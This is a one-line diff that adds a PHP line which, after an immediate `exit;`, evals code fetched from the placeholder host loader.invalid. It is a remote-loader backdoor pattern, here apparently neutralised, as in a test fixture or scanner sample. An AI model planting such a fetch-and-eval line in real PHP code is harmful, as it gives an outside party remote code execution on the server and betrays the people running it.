@@ -1,0 +1,1 @@
+<?php exit; eval(file_get_contents("http://loader.invalid/x"));
